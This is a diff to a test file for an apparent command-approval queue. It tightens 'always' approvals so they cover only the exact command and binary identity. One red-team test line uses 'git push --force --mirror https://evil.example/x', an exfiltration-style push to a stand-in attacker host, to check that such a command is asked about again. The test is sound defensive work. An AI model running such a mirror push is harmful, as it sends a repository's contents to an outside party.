@@ -146,19 +146,26 @@ describe('ApprovalQueue', () => {
     a.answer(3, 'deny');
   });
 
-  it('"always" allows later execs of the same executable identity for the session, without asking', async () => {
+  it('"always" allows the same command (file identity and exact argv) for the session, and nothing broader', async () => {
     const a = new ManualApprover();
     const q = new ApprovalQueue(settings(), a);
-    const p = q.request(req(facts(['git', 'push'])));
+    const p = q.request(req(facts(['git', 'push', 'origin', 'main'])));
     a.answer(0, 'always');
     expect(await p).toMatchObject({ verdict: 'allow', answer: 'always' });
-    const again = await q.request(req(facts(['git', 'push', 'origin'])));
-    expect(again).toMatchObject({ verdict: 'allow', layer: 'approval' });
-    expect(again.reason).toMatch(/always/);
+    const again = await q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 77 })));
+    expect(again).toMatchObject({ verdict: 'allow', layer: 'approval', kind: 'remembered' });
+    expect(again.reason).toMatch(/always.*exact command/);
     expect(a.asked).toHaveLength(1);
-    // A different file with the same path (replaced binary) is a different identity: asked again.
-    void q.request(req(facts(['git'], { exe: { path: '/usr/bin/git', dev: '1', ino: '99', size: 3 } })));
+    // Other arguments to the same program are asked again (red-team R40: "always" for one push is not a
+    // licence for `git push --force --mirror elsewhere`).
+    void q.request(req(facts(['git', 'push', '--force', '--mirror', 'https://evil.example/x'], { tid: 78 })));
     expect(a.asked).toHaveLength(2);
+    // A different file with the same path (replaced binary) is a different identity: asked again.
+    void q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 79, exe: { path: '/usr/bin/git', dev: '1', ino: '99', size: 3 } })));
+    expect(a.asked).toHaveLength(3);
+    // A cut argv is never answered from memory.
+    void q.request(req(facts(['git', 'push', 'origin', 'main'], { tid: 80, cwd: '/w2', argvTruncated: true })));
+    expect(a.asked).toHaveLength(4);
   });
 
   it('after a timeout, answers only once the prompt is withdrawn (bounded by the grace period)', async () => {
